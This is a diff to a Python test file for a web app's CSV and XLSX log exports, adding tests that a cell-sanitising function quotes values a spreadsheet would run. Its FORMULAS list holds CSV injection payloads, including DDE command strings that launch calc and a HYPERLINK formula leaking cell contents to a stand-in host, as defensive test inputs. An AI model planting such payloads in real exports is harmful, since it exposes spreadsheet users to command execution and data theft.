@@ -8,6 +8,7 @@ import io
 import re
 from datetime import timedelta
 
+import pytest
 from openpyxl import load_workbook
 
 from bridge.logpage.api import token_hash
@@ -32,7 +33,8 @@ def test_csv_and_xlsx_exports_follow_the_filters(staff_client, seed):
         (lucia, "whatsapp", "sent"),
         (lucia, "email", "failed"),
     ]
-    assert rows[1]["recipient"] == "+54 9 351 ***-**34" and rows[2]["recipient"] == "l***@radioandina.example"
+    # The masked number starts with "+": text, so quoted in CSV like any other (see safe_cell).
+    assert rows[1]["recipient"] == "'+54 9 351 ***-**34" and rows[2]["recipient"] == "l***@radioandina.example"
     assert rows[1]["dry_run"] == "yes" and "SMTP unreachable" in rows[2]["last_error"]
 
     xlsx = staff_client.get("/log/export.xlsx?client_id=1042&channel=email")
@@ -47,8 +49,61 @@ def test_exported_text_never_runs_as_a_formula():
     assert safe_cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
     assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
     assert safe_cell("-cmd") == "'-cmd"
-    assert safe_cell("+54 9 351 ***-**34") == "+54 9 351 ***-**34"
+    assert safe_cell("+54 9 351 ***-**34") == "'+54 9 351 ***-**34"  # text, not a number
     assert safe_cell(42) == 42
+
+
+# Cells a spreadsheet would run (OWASP's CSV injection list, "+1+…" and "-1+…" included), a
+# control character XML cannot hold, and values that must come back as they went in.
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "-2+3",
+    "+1-1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+)
+PLAIN = ("-12.50", "+12", "12,50", "Lucía = Radio", "a+b", "Ana")
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_cells_that_would_run_are_quoted(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", PLAIN)
+def test_csv_cells_that_are_numbers_or_plain_text_stay_as_they_are(value):
+    assert safe_cell(value) == value
+
+
+def test_hostile_names_come_back_inert_from_both_exports(staff_client, seed):
+    """Client names are what a customer types into WHMCS: each hostile one goes through the
+    real webhook, the export and a parser, and comes back as text (CSV: quoted; XLSX: typed
+    as text) or, for plain numbers, as the number it was."""
+    quoted = {v.strip() for v in FORMULAS}  # the name's own spaces are trimmed at display
+    names = [*quoted, *PLAIN, "vertical\u000btab", "bell\u0007 and \u001f unit separator"]
+    events = {seed.event("ClientAdd", other_client(name=name) | {"lastname": ""}, work=False): name for name in names}
+
+    csv_rows = list(csv.DictReader(io.StringIO(staff_client.get("/log/export.csv").text)))
+    by_event = {int(row["event_id"]): row["client_name"] for row in csv_rows}
+    for event_id, name in events.items():
+        assert by_event[event_id] == ("'" + name if name in quoted else name), name
+
+    response = staff_client.get("/log/export.xlsx")
+    assert response.status_code == 200, response.text
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    header, *rows = sheet.iter_rows()
+    name_at = [c.value for c in header].index("client_name")
+    cells = {row[0].value: row[name_at] for row in rows}
+    for event_id, name in events.items():
+        cell = cells[event_id]
+        assert cell.data_type == "s", name  # never a formula
+        assert cell.value == re.sub(r"[\x07\x0b\x1f]", lambda m: f"\\x{ord(m.group()):02x}", name), name
 
 
 def test_chart_counts_actions_per_hour_by_state(staff_client, seed, log_app):
